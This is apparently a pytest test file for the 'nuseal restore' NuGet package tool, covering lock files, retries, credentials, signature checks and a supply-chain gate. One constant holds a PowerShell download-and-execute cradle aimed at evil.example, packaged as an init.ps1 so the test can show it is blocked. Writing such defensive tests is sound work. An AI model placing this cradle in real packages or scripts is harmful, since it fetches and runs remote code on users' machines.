"""``nuseal restore`` end to end against a V3 feed on 127.0.0.1 (``restore_support.static_feed``): install into an
empty global-packages folder, the lock file, locked mode (NU1004, NU1403 for a package replaced on the source),
retries of HTTP 500, a source that hangs, credentials from nuget.config with an environment variable, the gate's
refusals (NU3008 tampered, NU3004 unsigned under require, a download-and-run init.ps1 blocked then allowed by
nuseal.toml), JSON output and exit codes."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from nuseal.cli.main import main
from support.tamper import entry_data_byte

from .restore_support import StaticFeed, package, static_feed, write_config, write_project

VECTORS = Path(__file__).resolve().parents[3] / "shared" / "vectors" / "nuget.org"
CRADLE = b"iex (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')\n"
NS = "netstandard2.0"


@pytest.fixture(autouse=True)
def _env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("NUGET_HTTP_CACHE_PATH", str(tmp_path / "http-cache"))
    monkeypatch.setenv("NUGET_CERT_REVOCATION_MODE", "offline")
    monkeypatch.delenv("NUGET_PACKAGES", raising=False)


@pytest.fixture
def feed() -> Iterator[StaticFeed]:
    with static_feed() as f:
        f.add(package("App.Core", "1.0.0", {NS: [("App.Util", "1.0.0")]}), "App.Core", "1.0.0")
        f.add(package("App.Util", "1.0.0"), "App.Util", "1.0.0")
        f.add(package("App.Util", "1.1.0"), "App.Util", "1.1.0")
        yield f


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["restore", *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def _project(tmp: Path, feed: StaticFeed, refs: list[tuple[str, str]] | None = None, **kw: str) -> Path:
    folder = tmp / "app"
    write_project(folder, refs or [("App.Core", "1.0.0")])
    write_config(folder, {"feed": feed.source}, **kw)
    return folder


def _installed(gpf: Path) -> set[str]:
    return {f"{p.parent.parent.name}/{p.parent.name}" for p in gpf.glob("*/*/.nupkg.metadata")}


def test_restore_into_empty_folder_then_lock_file_then_nothing_downloaded_again(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    app = _project(tmp_path, feed)
    gpf = tmp_path / "gpf"
    code, out, err = _run(capsys, str(app), "--packages", str(gpf), "--use-lock-file")
    assert code == 0, err
    assert _installed(gpf) == {"app.core/1.0.0", "app.util/1.0.0"}
    assert (gpf / "app.core" / "1.0.0" / "app.core.1.0.0.nupkg").is_file()
    lock = json.loads((app / "packages.lock.json").read_text())
    target = lock["dependencies"][".NETCoreApp,Version=v3.1"]
    assert target["App.Core"]["type"] == "Direct" and target["App.Util"]["type"] == "Transitive"
    metadata = json.loads((gpf / "app.util" / "1.0.0" / ".nupkg.metadata").read_text())
    assert target["App.Util"]["contentHash"] == metadata["contentHash"]
    assert "Restored 2 package(s)" in out
    before = feed.count(".nupkg")
    code, out, err = _run(capsys, str(app), "--packages", str(gpf), "--locked-mode")
    assert code == 0, err
    assert feed.count(".nupkg") == before  # everything was already in the global-packages folder
    assert "2 already there" in out


def test_locked_mode_fails_nu1004_when_the_project_changed(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    app = _project(tmp_path, feed)
    gpf = tmp_path / "gpf"
    assert _run(capsys, str(app), "--packages", str(gpf), "--use-lock-file")[0] == 0
    write_project(app, [("App.Core", "1.0.0"), ("App.Util", "1.1.0")])
    code, _out, err = _run(capsys, str(app), "--packages", str(tmp_path / "gpf2"), "--locked-mode")
    assert code == 1
    assert "error NU1004:" in err and "App.Util" in err
    assert not (tmp_path / "gpf2").exists() or _installed(tmp_path / "gpf2") == set()
    # without locked mode the lock file is brought up to date
    code, _out, err = _run(capsys, str(app), "--packages", str(gpf), "--use-lock-file")
    assert code == 0, err
    lock = json.loads((app / "packages.lock.json").read_text())
    assert lock["dependencies"][".NETCoreApp,Version=v3.1"]["App.Util"]["resolved"] == "1.1.0"


def test_package_replaced_on_the_source_is_nu1403_and_not_extracted(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    app = _project(tmp_path, feed)
    assert _run(capsys, str(app), "--packages", str(tmp_path / "gpf"), "--use-lock-file")[0] == 0
    feed.add(package("App.Util", "1.0.0", files={"lib/netstandard2.0/extra.dll": b"MZ evil"}), "App.Util", "1.0.0")
    fresh = tmp_path / "fresh-gpf"
    code, _out, err = _run(capsys, str(app), "--packages", str(fresh), "--locked-mode")
    assert code == 1
    line = next(x for x in err.splitlines() if "NU1403" in x)
    assert "App.Util 1.0.0" in line and feed.source in line
    assert "app.util/1.0.0" not in _installed(fresh)
    assert not (fresh / "app.util").exists()


def test_http_500_is_retried_and_a_hanging_source_times_out(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    app = _project(tmp_path, feed)
    feed.fail["app.core.1.0.0.nupkg"] = 2
    feed.fail["/flat/app.util/index.json"] = 1
    code, _out, err = _run(capsys, str(app), "--packages", str(tmp_path / "gpf"), "--no-http-cache")
    assert code == 0, err
    assert feed.count("app.core.1.0.0.nupkg") == 3
    assert _installed(tmp_path / "gpf") == {"app.core/1.0.0", "app.util/1.0.0"}

    feed.hang.add("app.util.1.0.0.nupkg")
    feed.hang_seconds = 20
    started = time.monotonic()
    code, _out, err = _run(capsys, str(app), "--packages", str(tmp_path / "gpf-hang"), "--timeout", "0.5")
    elapsed = time.monotonic() - started
    assert code == 1
    line = next(x for x in err.splitlines() if "NU1301" in x)
    assert "timed out after 0.5 s" in line and feed.base_url in line
    assert elapsed < 10
    assert "app.util/1.0.0" not in _installed(tmp_path / "gpf-hang")


def test_credentials_from_nuget_config_with_an_environment_variable(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    feed.credentials = ("ci", "t0ken")
    creds = (
        "  <packageSourceCredentials><feed>"
        '<add key="Username" value="ci" /><add key="ClearTextPassword" value="%FEED_TOKEN%" />'
        "</feed></packageSourceCredentials>\n"
    )
    app = _project(tmp_path, feed, extra=creds)
    code, _out, err = _run(capsys, str(app), "--packages", str(tmp_path / "gpf"), "--no-http-cache")
    assert code == 1
    assert "NU1301" in err and "401" in err
    monkeypatch.setenv("FEED_TOKEN", "t0ken")
    code, _out, err = _run(capsys, str(app), "--packages", str(tmp_path / "gpf"), "--no-http-cache")
    assert code == 0, err


@pytest.mark.usefixtures("vector_clock")  # a real vector: judged at VECTOR_NOW (support/clock.py)
def test_gate_refuses_a_tampered_signed_package_nu3008_and_nothing_is_extracted(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    real = (VECTORS / "system.buffers.4.4.0.nupkg").read_bytes()
    feed.add(entry_data_byte(real), "System.Buffers", "4.4.0")
    app = _project(tmp_path, feed, [("System.Buffers", "4.4.0")])
    gpf = tmp_path / "gpf"
    code, _out, err = _run(capsys, str(app), "--packages", str(gpf))
    assert code == 1
    line = next(x for x in err.splitlines() if "NU3008" in x)
    assert "System.Buffers 4.4.0" in line and feed.source in line
    assert not (gpf / "system.buffers").exists()


def test_require_mode_refuses_an_unsigned_package_nu3004(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    app = _project(tmp_path, feed, extra='  <config><add key="signatureValidationMode" value="require" /></config>\n')
    code, _out, err = _run(capsys, str(app), "--packages", str(tmp_path / "gpf"))
    assert code == 1
    assert "NU3004" in err
    assert _installed(tmp_path / "gpf") == set()


def test_download_and_run_init_ps1_is_blocked_then_allowed_by_nuseal_toml(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    feed.add(package("Evil.Lib", "1.0.0", files={"tools/init.ps1": CRADLE}), "Evil.Lib", "1.0.0")
    app = _project(tmp_path, feed, [("Evil.Lib", "1.0.0")])
    gpf = tmp_path / "gpf"
    code, out, err = _run(capsys, str(app), "--packages", str(gpf), "--json")
    assert code == 1
    doc = json.loads(out)
    [error] = doc["errors"]
    assert error["rule"] and error["package"] == "Evil.Lib 1.0.0" and error["source"] == feed.source
    assert not (gpf / "evil.lib").exists()
    (app / "nuseal.toml").write_text(
        f'[[scan.allow]]\nid = "Evil.*"\nrules = ["{error["rule"]}"]\nreason = "reviewed"\n'
    )
    code, out, err = _run(capsys, str(app), "--packages", str(gpf), "--json")
    assert code == 0, err
    doc = json.loads(out)
    assert doc["ok"] and [p["id"] for p in doc["packages"]] == ["Evil.Lib"]
    assert doc["packages"][0]["installed"] is True


def test_usage_errors_exit_2_with_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _out, err = _run(capsys, str(tmp_path / "nothing-here"))
    assert code == 2
    assert err.strip().count("\n") == 0 and "does not exist" in err
    (tmp_path / "bad").mkdir()
    (tmp_path / "bad" / "a.csproj").write_text("<Project><PropertyGroup>")
    code, _out, err = _run(capsys, str(tmp_path / "bad"))
    assert code == 2 and "not valid XML" in err and "Traceback" not in err


def test_nothing_resolves_is_exit_1_with_nu1101(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    app = _project(tmp_path, feed, [("Does.Not.Exist", "1.0.0")])
    code, _out, err = _run(capsys, str(app), "--packages", str(tmp_path / "gpf"))
    assert code == 1
    assert "error NU1101: Unable to find package Does.Not.Exist" in err


def test_http_cache_serves_version_lists_and_nuspecs_until_they_expire(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    app = _project(tmp_path, feed)
    assert _run(capsys, str(app), "--packages", str(tmp_path / "gpf1"))[0] == 0
    lists, nuspecs = feed.count("/index.json"), feed.count(".nuspec")
    assert lists >= 3 and nuspecs == 2  # service index + two version lists; the two picked nuspecs
    assert _run(capsys, str(app), "--packages", str(tmp_path / "gpf2"))[0] == 0
    assert (feed.count("/index.json"), feed.count(".nuspec")) == (lists, nuspecs)  # all from the cache
    assert feed.count(".nupkg") == 4  # packages are always downloaded (the global-packages folder is their cache)
    cache = tmp_path / "http-cache"
    for listing in cache.rglob("list_*.json"):
        os.utime(listing, (time.time() - 3600, time.time() - 3600))  # older than the 30-minute TTL
    assert _run(capsys, str(app), "--packages", str(tmp_path / "gpf3"))[0] == 0
    assert feed.count("/flat/app.util/index.json") == 2 and feed.count(".nuspec") == nuspecs


def test_project_reference_flows_its_packages_and_is_a_project_entry_in_the_lock_file(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    feed.add(package("Lib.Private", "1.0.0"), "Lib.Private", "1.0.0")
    lib = tmp_path / "src" / "Lib"
    lib.mkdir(parents=True)
    (lib / "My.Lib.csproj").write_text(
        '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>netstandard2.0</TargetFramework>'
        "<DisableImplicitFrameworkReferences>true</DisableImplicitFrameworkReferences></PropertyGroup><ItemGroup>"
        '<PackageReference Include="App.Core" Version="1.0.0" />'
        '<PackageReference Include="Lib.Private" Version="1.0.0" PrivateAssets="all" /></ItemGroup></Project>'
    )
    app = tmp_path / "src" / "App"
    write_project(app, [("App.Util", "1.1.0")])
    text = (app / "App.csproj").read_text().replace(
        "  <ItemGroup>\n", '  <ItemGroup>\n    <ProjectReference Include="..\\Lib\\My.Lib.csproj" />\n'
    )
    (app / "App.csproj").write_text(text)
    write_config(tmp_path / "src", {"feed": feed.source})
    gpf = tmp_path / "gpf"
    code, _out, err = _run(capsys, str(app), "--packages", str(gpf), "--use-lock-file")
    assert code == 0, err
    assert _installed(gpf) == {"app.core/1.0.0", "app.util/1.1.0"}  # Lib.Private does not flow to App
    target = json.loads((app / "packages.lock.json").read_text())["dependencies"][".NETCoreApp,Version=v3.1"]
    assert list(target) == ["App.Util", "App.Core", "my.lib"]
    assert target["my.lib"] == {"type": "Project", "dependencies": {"App.Core": "1.0.0"}}
    assert target["App.Core"]["type"] == "Transitive"


def test_repository_signatures_over_http_make_the_source_unusable_as_in_nuget(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    feed.repository_signatures = True
    app = _project(tmp_path, feed)
    code, _out, err = _run(capsys, str(app), "--packages", str(tmp_path / "gpf"))
    assert code == 1
    assert "NU1301" in err and "Repository Signatures resource must be served over HTTPS" in err
    assert _installed(tmp_path / "gpf") == set()


@pytest.mark.slow
def test_kill_9_mid_extraction_then_a_clean_second_restore(tmp_path: Path, feed: StaticFeed) -> None:
    files = {f"content/f{i:05d}.txt": os.urandom(512) for i in range(4000)}
    feed.add(package("Big.Pkg", "1.0.0", files=files), "Big.Pkg", "1.0.0")
    app = _project(tmp_path, feed, [("Big.Pkg", "1.0.0")])
    gpf = tmp_path / "gpf"
    folder = gpf / "big.pkg" / "1.0.0"
    env = {**os.environ, "HOME": str(tmp_path / "home"), "NUGET_HTTP_CACHE_PATH": str(tmp_path / "cache")}
    cmd = [sys.executable, "-m", "nuseal", "restore", str(app), "--packages", str(gpf)]
    proc = subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    half_written = False
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and proc.poll() is None:
            if (folder / "content").is_dir() and not (folder / ".nupkg.metadata").exists():
                os.kill(proc.pid, signal.SIGKILL)
                half_written = True
                break
            time.sleep(0.005)
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait()
    if not half_written:
        pytest.skip("the restore finished before it could be killed mid-extraction")
    assert not (folder / ".nupkg.metadata").exists()
    extracted = len(list((folder / "content").iterdir()))
    assert extracted < len(files)
    rerun = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=300, check=False)
    assert rerun.returncode == 0, rerun.stderr
    assert (folder / ".nupkg.metadata").is_file()
    assert sorted(p.name for p in (folder / "content").iterdir()) == sorted(n.split("/")[1] for n in files)
    assert all((folder / name).read_bytes() == data for name, data in files.items())


def test_packages_config_and_a_bare_lock_file_and_source_option(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    legacy = tmp_path / "legacy"
    legacy.mkdir()
    (legacy / "packages.config").write_text(
        '<packages><package id="App.Util" version="1.1.0" targetFramework="net472" /></packages>'
    )
    # no nuget.config there: --source names the feed
    code, _out, err = _run(capsys, str(legacy), "--packages", str(tmp_path / "gpf"), "--source", feed.source)
    assert code == 0, err
    assert _installed(tmp_path / "gpf") == {"app.util/1.1.0"}  # exact versions, no dependencies walked
    app = _project(tmp_path, feed)
    assert _run(capsys, str(app), "--packages", str(tmp_path / "gpf"), "--use-lock-file")[0] == 0
    only_lock = tmp_path / "only-lock"
    only_lock.mkdir()
    (only_lock / "packages.lock.json").write_bytes((app / "packages.lock.json").read_bytes())
    code, _out, err = _run(capsys, str(only_lock), "--packages", str(tmp_path / "gpf2"), "--source", feed.source)
    assert code == 0, err
    assert _installed(tmp_path / "gpf2") == {"app.core/1.0.0", "app.util/1.0.0"}


def test_installed_package_whose_hash_differs_from_the_lock_file_is_nu1403(
    tmp_path: Path, feed: StaticFeed, capsys: pytest.CaptureFixture[str]
) -> None:
    app = _project(tmp_path, feed)
    gpf = tmp_path / "gpf"
    assert _run(capsys, str(app), "--packages", str(gpf), "--use-lock-file")[0] == 0
    metadata = gpf / "app.util" / "1.0.0" / ".nupkg.metadata"
    doc = json.loads(metadata.read_text())
    doc["contentHash"] = "AAAA" + doc["contentHash"][4:]
    metadata.write_text(json.dumps(doc))
    code, _out, err = _run(capsys, str(app), "--packages", str(gpf), "--locked-mode")
    assert code == 1
    assert "NU1403" in err and "App.Util 1.0.0" in err
